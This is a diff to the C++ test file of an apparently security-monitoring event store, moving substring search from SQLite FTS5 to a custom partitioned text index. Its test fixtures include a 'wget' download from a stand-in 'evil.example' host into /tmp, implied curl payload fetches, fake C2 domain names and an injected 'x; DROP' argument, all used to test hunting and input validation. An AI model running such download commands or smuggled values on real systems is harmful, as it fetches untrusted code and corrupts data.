@@ -14,7 +14,9 @@
 
 #include "common/time.hpp"
 #include "server/store/free_space.hpp"
+#include "server/store/sqlite_tuning.hpp"
 #include "server/store/store.hpp"
+#include "server/store/text_index_vtab.hpp"
 
 namespace vigil::store {
 namespace {
@@ -44,6 +46,7 @@ class StoreTest : public ::testing::Test {
   std::vector<std::string> Sql(const std::string& sql) {
     sqlite3* db = nullptr;
     EXPECT_EQ(sqlite3_open(path_.c_str(), &db), SQLITE_OK);
+    EXPECT_TRUE(text_index::RegisterFunction(db));
     std::vector<std::string> rows;
     sqlite3_stmt* stmt = nullptr;
     EXPECT_EQ(sqlite3_prepare_v2(db, sql.c_str(), -1, &stmt, nullptr), SQLITE_OK)
@@ -57,6 +60,15 @@ class StoreTest : public ::testing::Test {
     sqlite3_finalize(stmt);
     sqlite3_close(db);
     return rows;
+  }
+
+  // The rows of `table` matching the wildcard pattern as a hunt finds them: the text index's
+  // candidates (a superset) with the exact check (LIKE: these patterns have no _ or %).
+  std::vector<std::string> Text(const std::string& table, const std::string& column,
+                                const std::string& pattern) {
+    return Sql("SELECT id FROM \"" + table + "\" WHERE id IN (SELECT id FROM vigil_text('" + table +
+               "', '" + column + "', '[\"" + pattern + "\"]')) AND " + column + " LIKE replace('" +
+               pattern + "', '*', '%') ORDER BY id");
   }
 
   std::vector<v1::Event> Query(Store& store, EventQuery q) {
@@ -355,19 +367,97 @@ TEST_F(StoreTest, TrigramIndexFindsSubstrings) {
                          ProcessEvent(2, "h", "/usr/bin/python3 -m http.server 8000"),
                          ProcessEvent(3, "h", "wget http://evil.example/x -O /tmp/x"),
                          FileEvent(4, "h", "/var/tmp/.hidden/evil.so")})}));
-  EXPECT_EQ(Sql("SELECT rowid FROM process_fts WHERE process_fts MATCH '\"evil.example\"' "
-                "ORDER BY rowid"),
+  EXPECT_EQ(Text("process", "process_command_line", "*evil.example*"),
             (std::vector<std::string>{"1", "3"}));
-  EXPECT_EQ(Sql("SELECT p.process_command_line FROM process_fts f JOIN process p ON p.id = "
-                "f.rowid WHERE f.process_command_line MATCH '\"http.serv\"'"),
-            std::vector<std::string>{"/usr/bin/python3 -m http.server 8000"});
-  // Parent command lines are indexed too, and the file table has its own index over file.path.
-  EXPECT_EQ(Sql("SELECT count(*) FROM process_fts WHERE process_fts MATCH '\"sshd -D\"'"),
-            std::vector<std::string>{"3"});
-  EXPECT_EQ(Sql("SELECT rowid FROM file_fts WHERE file_fts MATCH '\".hidden/\"'"),
+  EXPECT_EQ(Text("process", "process_command_line", "*EVIL.Example*"),
+            (std::vector<std::string>{"1", "3"}));  // ASCII case-insensitive
+  EXPECT_EQ(Text("process", "process_command_line", "*http.serv*"), std::vector<std::string>{"2"});
+  EXPECT_EQ(Text("process", "process_command_line", "curl*payload*"),
             std::vector<std::string>{"1"});
-  EXPECT_TRUE(
-      Sql("SELECT rowid FROM process_fts WHERE process_fts MATCH '\"no such text\"'").empty());
+  // Parent command lines are indexed too, and the file table has its own index over file.path.
+  EXPECT_EQ(Text("process", "process_parent_command_line", "*sshd -D*").size(), 3u);
+  EXPECT_EQ(Text("file", "file_path", "*.hidden/*"), std::vector<std::string>{"1"});
+  EXPECT_TRUE(Text("process", "process_command_line", "*no such text*").empty());
+  // A pattern without three literal characters cannot use it: a clear error.
+  sqlite3* db = nullptr;
+  ASSERT_EQ(sqlite3_open(path_.c_str(), &db), SQLITE_OK);
+  ASSERT_TRUE(text_index::RegisterFunction(db));
+  EXPECT_NE(
+      sqlite3_exec(db, "SELECT id FROM vigil_text('process', 'process_command_line', '[\"*ab*\"]')",
+                   nullptr, nullptr, nullptr),
+      SQLITE_OK);
+  EXPECT_NE(std::string(sqlite3_errmsg(db)).find("literal run of 3 characters"), std::string::npos)
+      << sqlite3_errmsg(db);
+  EXPECT_NE(sqlite3_exec(db, "SELECT id FROM vigil_text('process', 'x; DROP', '[\"abc\"]')",
+                         nullptr, nullptr, nullptr),
+            SQLITE_OK);
+  sqlite3_close(db);
+}
+
+// Partitions of 65,536 rows are sealed into text_postings by the transaction that completes them;
+// the one being written is answered from memory while the store is open, read back from the rows
+// when it reopens, and treated as all-candidates by a connection of a process without the store.
+TEST_F(StoreTest, TextIndexSealsPartitionsAndRebuildsTheOpenOneOnRestart) {
+  constexpr int kEvents = 70000;
+  auto command = [](int i) {
+    return "/opt/tool-" + std::to_string(i % 100) + " --run " + std::to_string(i);
+  };
+  std::vector<std::string> expected;  // ids of "tool-7 " (i % 100 == 7)
+  for (int i = 0; i < kEvents; ++i)
+    if (i % 100 == 7) expected.push_back(std::to_string(i + 1));
+  {
+    auto store = Open();
+    for (int b = 0; b < kEvents / 1000; ++b) {
+      std::vector<v1::Event> events;
+      for (int i = b * 1000; i < (b + 1) * 1000; ++i)
+        events.push_back(ProcessEvent(1000 + i, "h", command(i)));
+      ASSERT_TRUE(store->Append(std::vector{Batch("", 0, 0, events)}));
+    }
+    EXPECT_EQ(Sql("SELECT tbl || ':' || part FROM text_index_parts"),
+              std::vector<std::string>{"process:0"});
+    EXPECT_GT(std::stoi(Sql("SELECT count(*) FROM text_postings WHERE part = 0")[0]), 1);
+    EXPECT_EQ(Text("process", "process_command_line", "*tool-7 *"), expected);
+    // The candidates themselves: exact for the sealed partition and the one in memory.
+    EXPECT_EQ(Sql("SELECT count(*) FROM vigil_text('process', 'process_command_line', "
+                  "'[\"*tool-7 *\"]')"),
+              std::vector<std::string>{std::to_string(expected.size())});
+    EXPECT_EQ(Sql("SELECT id FROM process WHERE id IN (SELECT id FROM vigil_text('process', "
+                  "'process_command_line', '[\"*--run 69999*\", \"*--run 12345*\"]')) AND "
+                  "(process_command_line GLOB '*--run 69999*' OR process_command_line GLOB "
+                  "'*--run 12345*')"),
+              (std::vector<std::string>{"12346", "70000"}));
+  }
+  // No store in this process: the unsealed partition (ids 65,537..70,000) is all candidates.
+  EXPECT_EQ(Sql("SELECT count(*) FROM vigil_text('process', 'process_command_line', "
+                "'[\"*tool-7 *\"]')"),
+            std::vector<std::string>{std::to_string(656 + (kEvents - 65536))});
+  EXPECT_EQ(Text("process", "process_command_line", "*tool-7 *"), expected);
+  auto store = Open();  // rebuilds the open partition from its rows
+  EXPECT_EQ(Sql("SELECT count(*) FROM vigil_text('process', 'process_command_line', "
+                "'[\"*tool-7 *\"]')"),
+            std::vector<std::string>{std::to_string(expected.size())});
+}
+
+// A database written without the text index (or with the FTS5 tables of older versions) gets
+// its rows indexed on open, partition by partition, and the FTS5 tables dropped.
+TEST_F(StoreTest, TextIndexIndexesTheRowsOfAnOlderDatabase) {
+  {
+    SqliteTuning tuning;
+    tuning.full_text = false;
+    auto old = OpenSqliteStoreTuned(SqliteOptions{path_, false}, tuning);
+    ASSERT_TRUE(old) << old.error().message;
+    std::vector<v1::Event> events;
+    for (int i = 0; i < 66000; ++i)
+      events.push_back(ProcessEvent(1000 + i, "h", i == 5 || i == 65999 ? "needle x" : "hay"));
+    ASSERT_TRUE((*old)->Append(std::vector{Batch("", 0, 0, events)}));
+  }
+  Sql("CREATE VIRTUAL TABLE process_fts USING fts5(process_command_line, tokenize='trigram')");
+  auto store = Open();
+  EXPECT_TRUE(Sql("SELECT name FROM sqlite_master WHERE name LIKE '%_fts%'").empty());
+  EXPECT_EQ(Sql("SELECT tbl || ':' || part FROM text_index_parts"),
+            std::vector<std::string>{"process:0"});
+  EXPECT_EQ(Sql("SELECT id FROM vigil_text('process', 'process_command_line', '[\"needle\"]')"),
+            (std::vector<std::string>{"6", "66000"}));
 }
 
 // Below the free-space minimum ingest pauses: Append fails (the gateway does not acknowledge, so
@@ -404,7 +494,7 @@ TEST_F(StoreTest, IngestPausesBelowTheFreeSpaceMinimum) {
   EXPECT_EQ(DefaultMinFree(12ull << 20), 6ull << 20);
 }
 
-TEST_F(StoreTest, RetentionByAgeKeepsFtsConsistent) {
+TEST_F(StoreTest, RetentionByAgeKeepsTheTextIndexConsistent) {
   auto store = Open();
   const std::int64_t now = NowNs();
   const std::int64_t hour = 3600LL * 1000000000LL;
@@ -422,18 +512,14 @@ TEST_F(StoreTest, RetentionByAgeKeepsFtsConsistent) {
   EXPECT_EQ(r->deleted_events, 31u);
   EXPECT_GT(r->bytes_after, 0u);
   EXPECT_EQ(*store->CountEvents(std::nullopt), 21u);
-  EXPECT_TRUE(
-      Sql("SELECT rowid FROM process_fts WHERE process_fts MATCH '\"old-command\"'").empty());
-  EXPECT_EQ(Sql("SELECT count(*) FROM process_fts WHERE process_fts MATCH '\"new-command\"'"),
-            std::vector<std::string>{"20"});
-  EXPECT_TRUE(Sql("SELECT rowid FROM file_fts WHERE file_fts MATCH '\"/old/\"'").empty());
-  // The index agrees with its content table.
-  Sql("INSERT INTO process_fts(process_fts) VALUES('integrity-check')");
-  Sql("INSERT INTO file_fts(file_fts) VALUES('integrity-check')");
+  EXPECT_TRUE(Text("process", "process_command_line", "*old-command*").empty());
+  EXPECT_EQ(Text("process", "process_command_line", "*new-command*").size(), 20u);
+  EXPECT_TRUE(Text("file", "file_path", "*/old/*").empty());
+  EXPECT_EQ(Text("file", "file_path", "*/new/*").size(), 1u);
 }
 
-// The hunt's trigram index of DNS names (hunt_indexes.cpp) is kept by triggers: rows appended
-// are found by substring, rows deleted by retention leave it, and it agrees with the dns table.
+// DNS names are in the text index too: rows appended are found by substring, rows deleted by
+// retention are not.
 TEST_F(StoreTest, DnsNameTrigramIndexFollowsInsertsAndRetention) {
   auto store = Open();
   const std::int64_t now = NowNs();
@@ -449,9 +535,9 @@ TEST_F(StoreTest, DnsNameTrigramIndexFollowsInsertsAndRetention) {
              dns(now - hour + 1, "www.example.org"), DnsEvent(now - hour + 2, "h")})}));
   auto matches = [&](const std::string& text) {
     return Sql(
-        "SELECT d.dns_question_name FROM dns_name_fts f JOIN dns d ON d.id = f.rowid "
-        "WHERE f.dns_question_name MATCH '\"" +
-        text + "\"' ORDER BY d.id");
+        "SELECT dns_question_name FROM dns WHERE id IN (SELECT id FROM vigil_text('dns', "
+        "'dns_question_name', '[\"*" +
+        text + "*\"]')) ORDER BY id");
   };
   EXPECT_EQ(matches(".evil-c2.net"),
             (std::vector<std::string>{"old.evil-c2.net", "update.evil-c2.net"}));
@@ -459,7 +545,6 @@ TEST_F(StoreTest, DnsNameTrigramIndexFollowsInsertsAndRetention) {
   ASSERT_TRUE(r) << r.error().message;
   EXPECT_EQ(matches(".evil-c2.net"), std::vector<std::string>{"update.evil-c2.net"});
   EXPECT_EQ(matches("example.org"), (std::vector<std::string>{"www.example.org", "example.org"}));
-  Sql("INSERT INTO dns_name_fts(dns_name_fts) VALUES('integrity-check')");
 }
 
 // Live detection reads each table after the last row id it evaluated: ids must never repeat, so
@@ -529,11 +614,9 @@ TEST_F(StoreTest, RetentionBySizeDeletesOldestUntilUnderTheBound) {
   auto oldest = Query(*store, Q(1, false));
   ASSERT_EQ(oldest.size(), 1u);
   EXPECT_EQ(oldest[0].timestamp(), newest - static_cast<std::int64_t>(left) + 1);
-  // FTS rows of deleted events are gone.
-  EXPECT_EQ(
-      Sql("SELECT count(*) FROM process_fts WHERE process_fts MATCH '\"some-tool\"'"),
-      std::vector<std::string>{std::to_string(*store->CountEvents(schema::Category::Process))});
-  Sql("INSERT INTO process_fts(process_fts) VALUES('integrity-check')");
+  // The text index finds exactly the process events left.
+  EXPECT_EQ(Text("process", "process_command_line", "*some-tool*").size(),
+            *store->CountEvents(schema::Category::Process));
   // The file shrank (incremental vacuum + WAL truncation).
   EXPECT_LE(fs::file_size(path_), before->bytes_after);
 }
